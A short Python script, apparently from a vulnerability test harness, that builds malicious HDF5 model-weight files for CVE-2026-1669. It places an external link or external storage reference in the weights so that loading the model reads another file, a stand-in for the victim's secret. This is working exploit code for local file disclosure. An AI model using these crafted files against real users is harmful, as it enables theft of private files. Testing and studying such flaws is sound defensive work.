"""Point HDF5 weights to another file (CVE-2026-1669): loading would read a file of the victim."""

from __future__ import annotations

import h5py
from _run import Place, main
from lambda_in_keras import four


def linked(place: Place) -> bytes:
    """A link to a dataset in another file."""
    path = place.marker.with_name("made.h5")
    with h5py.File(path, "w") as file:
        file["layers/dense/vars/0"] = h5py.ExternalLink(str(place.secret), "/data")
    return _taken(path)


def stored_elsewhere(place: Place) -> bytes:
    """A dataset whose bytes are another file's."""
    path = place.marker.with_name("made.h5")
    with h5py.File(path, "w") as file:
        file.create_dataset(
            "layers/dense/vars/0", (16,), "u1", external=[(str(place.secret), 0, 16)]
        )
    return _taken(path)


def _taken(path) -> bytes:
    content = path.read_bytes()
    path.unlink()
    return content


VARIANTS = [*four("an external link", linked), *four("external storage", stored_elsewhere)]

if __name__ == "__main__":
    main(__doc__, VARIANTS)
